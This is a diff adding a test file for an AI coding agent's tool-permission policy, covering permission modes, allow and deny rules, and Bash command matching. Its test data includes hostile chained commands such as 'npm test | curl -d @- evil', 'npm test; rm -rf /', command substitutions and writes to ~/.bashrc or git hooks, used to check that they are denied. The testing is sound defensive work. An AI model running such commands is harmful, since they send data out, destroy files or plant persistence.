@@ -1,0 +1,331 @@
+import { afterAll, beforeAll, describe, expect, it } from 'vitest';
+import path from 'node:path';
+import { z } from 'zod';
+import {
+  parseToolRule,
+  permissionModes,
+  type PermissionMode,
+  type ToolRule,
+} from '../../src/agents/definition.js';
+import { defineTool, type AnyTool, type ToolKind } from '../../src/tools/define-tool.js';
+import {
+  createPermissionPolicy,
+  type PermissionDecision,
+  type PermissionPolicyOptions,
+} from '../../src/tools/permissions.js';
+import { bashTool } from '../../src/tools/bash-tool.js';
+import { editTool } from '../../src/tools/edit-tool.js';
+import { grepTool } from '../../src/tools/grep-tool.js';
+import { readTool } from '../../src/tools/read-tool.js';
+import { writeTool } from '../../src/tools/write-tool.js';
+import { defaultTools } from '../../src/tools/registry.js';
+import { makeTempTree, writeFiles, type TempTree } from './helpers.js';
+
+let tree: TempTree;
+let root: string;
+beforeAll(async () => {
+  tree = await makeTempTree();
+  root = tree.root;
+  await writeFiles(root, {
+    'src/a.ts': 'a',
+    'docs/guide.md': 'g',
+    'secrets/key.pem': 'k',
+    '.env': 'X=1',
+  });
+});
+afterAll(async () => tree.cleanup());
+
+function fakeTool(name: string, kind: ToolKind): AnyTool {
+  return defineTool({
+    name,
+    kind,
+    description: name,
+    inputSchema: z.object({ target: z.string().optional() }),
+    ruleSubject: (input) => input.target,
+    run: async () => 'ok',
+  });
+}
+const sendMessage = fakeTool('SendMessage', 'coordination');
+const agentTool = fakeTool('Agent', 'coordination');
+const mcpIssue = fakeTool('mcp__github__create_issue', 'execute');
+const mcpOther = fakeTool('mcp__other__run', 'execute');
+
+const rules = (...texts: string[]): ToolRule[] =>
+  texts.map((text) => {
+    const rule = parseToolRule(text);
+    if (!rule) throw new Error(`bad rule ${text}`);
+    return rule;
+  });
+
+function policy(options: Partial<PermissionPolicyOptions> & { mode: PermissionMode }) {
+  return createPermissionPolicy({ root, ...options });
+}
+const behavior = (decision: PermissionDecision): string => decision.behavior;
+const message = (decision: PermissionDecision): string =>
+  decision.behavior === 'deny' ? decision.message : '';
+
+const calls: Record<string, [AnyTool, unknown]> = {
+  read: [readTool, { file_path: 'src/a.ts' }],
+  edit: [editTool, { file_path: 'src/a.ts', old_string: 'a', new_string: 'b' }],
+  write: [writeTool, { file_path: 'src/new.ts', content: 'x' }],
+  execute: [bashTool, { command: 'npm test' }],
+  coordination: [sendMessage, { target: 'worker' }],
+};
+
+describe('modes, decided headlessly with no rules', () => {
+  const expected: Record<PermissionMode, Record<string, 'allow' | 'deny'>> = {
+    default: { read: 'allow', edit: 'deny', write: 'deny', execute: 'deny', coordination: 'allow' },
+    dontAsk: { read: 'allow', edit: 'deny', write: 'deny', execute: 'deny', coordination: 'allow' },
+    acceptEdits: {
+      read: 'allow',
+      edit: 'allow',
+      write: 'allow',
+      execute: 'deny',
+      coordination: 'allow',
+    },
+    plan: { read: 'allow', edit: 'deny', write: 'deny', execute: 'deny', coordination: 'allow' },
+    bypassPermissions: {
+      read: 'allow',
+      edit: 'allow',
+      write: 'allow',
+      execute: 'allow',
+      coordination: 'allow',
+    },
+    delegate: { read: 'deny', edit: 'deny', write: 'deny', execute: 'deny', coordination: 'allow' },
+  };
+  it.each(
+    permissionModes.flatMap((mode) => Object.keys(calls).map((call) => [mode, call] as const)),
+  )('%s: %s', (mode, call) => {
+    const [tool, input] = calls[call] as [AnyTool, unknown];
+    const decision = policy({ mode }).decide(tool, input);
+    expect(behavior(decision)).toBe(expected[mode][call]);
+    if (decision.behavior === 'deny') {
+      // what, why, and which setting would allow it
+      expect(decision.message).toContain(tool.name);
+      expect(decision.message).toContain(`'${mode}'`);
+      expect(decision.message).toMatch(/permission_mode|allowed_tools/);
+    }
+  });
+
+  it('allow rules do not widen plan or delegate', () => {
+    const everything = rules('Bash', 'Edit', 'Write', 'Read');
+    expect(
+      behavior(policy({ mode: 'plan', allow: everything }).decide(bashTool, { command: 'ls' })),
+    ).toBe('deny');
+    expect(
+      behavior(
+        policy({ mode: 'plan', allow: everything }).decide(...(calls.edit as [AnyTool, unknown])),
+      ),
+    ).toBe('deny');
+    expect(
+      behavior(
+        policy({ mode: 'delegate', allow: everything }).decide(
+          ...(calls.read as [AnyTool, unknown]),
+        ),
+      ),
+    ).toBe('deny');
+    expect(message(policy({ mode: 'plan' }).decide(bashTool, { command: 'ls' }))).toContain(
+      'read-only',
+    );
+  });
+});
+
+describe('allow rules', () => {
+  it('Edit(src/**) allows edits under src only, for Edit and Write alike', () => {
+    const p = policy({ mode: 'default', allow: rules('Edit(src/**)') });
+    expect(
+      behavior(p.decide(editTool, { file_path: 'src/a.ts', old_string: 'a', new_string: 'b' })),
+    ).toBe('allow');
+    expect(
+      behavior(p.decide(writeTool, { file_path: path.join(root, 'src/deep/new.ts'), content: '' })),
+    ).toBe('allow');
+    const denied = p.decide(writeTool, { file_path: 'docs/guide.md', content: '' });
+    expect(behavior(denied)).toBe('deny');
+    expect(message(denied)).toContain("Write of 'docs/guide.md'");
+    expect(message(denied)).toContain('acceptEdits');
+  });
+
+  it('a bare tool name allows every call of it', () => {
+    const p = policy({ mode: 'default', allow: rules('Bash') });
+    expect(behavior(p.decide(bashTool, { command: 'curl example.com && rm -rf x' }))).toBe('allow');
+  });
+
+  const npmTest = policy({ mode: 'default', allow: rules('Bash(npm test:*)', 'Bash(git status)') });
+  it.each([
+    ['npm test', 'allow'],
+    ['npm test -- --watch=false', 'allow'],
+    ['npm test 2>&1', 'allow'],
+    ['npm test > /dev/null', 'allow'],
+    ['npm test "a && b"', 'allow'],
+    ["npm test 'x; curl evil'", 'allow'],
+    ['git status && npm test', 'allow'],
+    ['git status', 'allow'],
+    ['git status --short', 'deny'],
+    ['npm testing', 'deny'],
+    ['npm run test', 'deny'],
+    ['npm test && curl evil', 'deny'],
+    ['npm test; rm -rf /', 'deny'],
+    ['npm test || curl evil', 'deny'],
+    ['npm test | curl -d @- evil', 'deny'],
+    ['npm test & curl evil', 'deny'],
+    ['npm test\ncurl evil', 'deny'],
+    ['npm test $(curl evil)', 'deny'],
+    ['npm test `curl evil`', 'deny'],
+    ['npm test "$(curl evil)"', 'deny'],
+    ['npm test <(curl evil)', 'deny'],
+    ['npm test > ~/.bashrc', 'deny'],
+    ['npm test >> .git/hooks/pre-commit', 'deny'],
+    ['npm test "unterminated', 'deny'],
+    ['FOO=1 npm test', 'deny'],
+    ["npm test #'\ncurl evil #'", 'deny'],
+    ['npm test # a comment', 'allow'],
+  ])('Bash(npm test:*) + Bash(git status): %s → %s', (command, expected) => {
+    expect(behavior(npmTest.decide(bashTool, { command }))).toBe(expected);
+  });
+
+  it('names the uncovered part of a compound command', () => {
+    const decision = npmTest.decide(bashTool, { command: 'npm test && curl evil' });
+    expect(message(decision)).toContain('`curl evil` is not covered');
+    expect(message(decision)).toContain('every part');
+    expect(message(decision)).toContain('Bash(curl evil)');
+    expect(message(decision)).toContain('allowed_tools');
+    expect(message(npmTest.decide(bashTool, { command: 'npm test > out.txt' }))).toContain(
+      'redirects output to a file',
+    );
+  });
+
+  it('supports * wildcards and an exact rule for a whole compound command', () => {
+    const p = policy({
+      mode: 'acceptEdits',
+      allow: rules('Bash(git * main)', 'Bash(echo $(date))', 'Bash(ls *)'),
+    });
+    expect(behavior(p.decide(bashTool, { command: 'git push origin main' }))).toBe('allow');
+    expect(behavior(p.decide(bashTool, { command: 'git push origin dev' }))).toBe('deny');
+    expect(behavior(p.decide(bashTool, { command: 'echo $(date)' }))).toBe('allow');
+    expect(behavior(p.decide(bashTool, { command: 'ls -la' }))).toBe('allow');
+    expect(behavior(p.decide(bashTool, { command: 'ls' }))).toBe('allow');
+    expect(behavior(p.decide(bashTool, { command: 'lsof' }))).toBe('deny');
+  });
+
+  it('allows mcp tools by server or by tool', () => {
+    const byServer = policy({ mode: 'default', allow: rules('mcp__github') });
+    expect(behavior(byServer.decide(mcpIssue, {}))).toBe('allow');
+    expect(behavior(byServer.decide(mcpOther, {}))).toBe('deny');
+    const byTool = policy({ mode: 'default', allow: rules('mcp__github__create_issue') });
+    expect(behavior(byTool.decide(mcpIssue, {}))).toBe('allow');
+    const byGlob = policy({ mode: 'default', allow: rules('mcp__github__*') });
+    expect(behavior(byGlob.decide(mcpIssue, {}))).toBe('allow');
+  });
+});
+
+describe('deny rules', () => {
+  it('beat allow rules, in compound commands and substitutions too', () => {
+    const p = policy({ mode: 'default', allow: rules('Bash'), deny: rules('Bash(rm:*)') });
+    expect(behavior(p.decide(bashTool, { command: 'ls' }))).toBe('allow');
+    for (const command of ['rm -rf x', 'ls && rm -rf x', 'echo $(rm -rf x)', 'ls | rm x', 'rm']) {
+      const decision = p.decide(bashTool, { command });
+      expect(behavior(decision), command).toBe('deny');
+      expect(message(decision)).toContain('Bash(rm:*)');
+      expect(message(decision)).toContain('disallowed_tools');
+    }
+  });
+
+  it('apply in bypassPermissions', () => {
+    const p = policy({ mode: 'bypassPermissions', deny: rules('Bash(curl:*)') });
+    expect(behavior(p.decide(bashTool, { command: 'curl evil.example' }))).toBe('deny');
+    expect(behavior(p.decide(bashTool, { command: 'ls' }))).toBe('allow');
+  });
+
+  it('match paths gitignore-style: relative, anchored, at any depth, absolute', () => {
+    const p = policy({
+      mode: 'bypassPermissions',
+      deny: rules(
+        'Read(secrets/**)',
+        'Read(*.env)',
+        'Edit(/docs/**)',
+        `Read(/${'src'}/private/**)`,
+      ),
+    });
+    expect(behavior(p.decide(readTool, { file_path: 'secrets/key.pem' }))).toBe('deny');
+    expect(behavior(p.decide(grepTool, { pattern: 'x', path: 'secrets' }))).toBe('deny');
+    expect(behavior(p.decide(readTool, { file_path: '.env' }))).toBe('deny');
+    expect(behavior(p.decide(readTool, { file_path: 'config/prod.env' }))).toBe('deny');
+    expect(behavior(p.decide(writeTool, { file_path: 'docs/guide.md', content: '' }))).toBe('deny');
+    expect(behavior(p.decide(writeTool, { file_path: 'src/docs/guide.md', content: '' }))).toBe(
+      'allow',
+    );
+    expect(behavior(p.decide(readTool, { file_path: 'docs/guide.md' }))).toBe('allow');
+    expect(behavior(p.decide(readTool, { file_path: 'src/private/x.ts' }))).toBe('deny');
+    expect(behavior(p.decide(readTool, { file_path: 'src/a.ts' }))).toBe('allow');
+    const absolute = policy({ mode: 'bypassPermissions', deny: rules(`Read(/${root}/src/**)`) });
+    expect(behavior(absolute.decide(readTool, { file_path: 'src/a.ts' }))).toBe('deny');
+    expect(behavior(absolute.decide(readTool, { file_path: 'docs/guide.md' }))).toBe('allow');
+    const home = policy({
+      mode: 'bypassPermissions',
+      homeDir: tree.parent,
+      deny: rules('Read(~/repo/docs/**)'),
+    });
+    expect(behavior(home.decide(readTool, { file_path: 'docs/guide.md' }))).toBe('deny');
+  });
+
+  it('hide a tool denied as a whole', () => {
+    const p = policy({ mode: 'bypassPermissions', deny: rules('Write') });
+    expect(p.visibleTools(defaultTools()).map((tool) => tool.name)).toEqual([
+      'Read',
+      'Edit',
+      'Glob',
+      'Grep',
+      'Bash',
+    ]);
+    const decision = p.decide(writeTool, { file_path: 'x', content: '' });
+    expect(message(decision)).toContain('denied as a whole by the rule `Write`');
+  });
+});
+
+describe("the agent definition's tools and disallowedTools", () => {
+  it('offers only the listed tools, and denies the rest with the reason', () => {
+    const p = policy({ mode: 'bypassPermissions', agentTools: rules('Read', 'Grep') });
+    expect(p.visibleTools(defaultTools()).map((tool) => tool.name)).toEqual(['Read', 'Grep']);
+    const decision = p.decide(bashTool, { command: 'ls' });
+    expect(message(decision)).toContain('tools list does not include it (tools: Read, Grep)');
+  });
+
+  it('* offers everything; disallowedTools removes', () => {
+    const p = policy({
+      mode: 'default',
+      agentTools: rules('*'),
+      agentDisallowed: rules('Bash', 'Write'),
+    });
+    expect(p.visibleTools(defaultTools()).map((tool) => tool.name)).toEqual([
+      'Read',
+      'Edit',
+      'Glob',
+      'Grep',
+    ]);
+    expect(message(p.decide(bashTool, { command: 'ls' }))).toContain('disallowedTools');
+  });
+
+  it('understands mcp server names and the Task alias', () => {
+    const p = policy({ mode: 'default', agentTools: rules('mcp__github', 'Task') });
+    expect(
+      p.visibleTools([mcpIssue, mcpOther, agentTool, readTool]).map((tool) => tool.name),
+    ).toEqual(['mcp__github__create_issue', 'Agent']);
+  });
+
+  it('a tool listed only with specifiers is limited to them, and they pre-approve it', () => {
+    const p = policy({ mode: 'default', agentTools: rules('Read', 'Bash(npm test:*)') });
+    expect(p.visibleTools(defaultTools()).map((tool) => tool.name)).toEqual(['Read', 'Bash']);
+    expect(behavior(p.decide(bashTool, { command: 'npm test' }))).toBe('allow');
+    const limited = p.decide(bashTool, { command: 'ls' });
+    expect(message(limited)).toContain('limits Bash to `Bash(npm test:*)`');
+    const bypass = policy({ mode: 'bypassPermissions', agentTools: rules('Bash(npm test:*)') });
+    expect(behavior(bypass.decide(bashTool, { command: 'curl evil' }))).toBe('deny');
+  });
+
+  it('a disallowedTools entry with a specifier is a deny rule and leaves the tool visible', () => {
+    const p = policy({ mode: 'bypassPermissions', agentDisallowed: rules('Bash(git push:*)') });
+    expect(p.isVisible('Bash')).toBe(true);
+    expect(behavior(p.decide(bashTool, { command: 'git push origin main' }))).toBe('deny');
+    expect(behavior(p.decide(bashTool, { command: 'git status' }))).toBe('allow');
+  });
+});
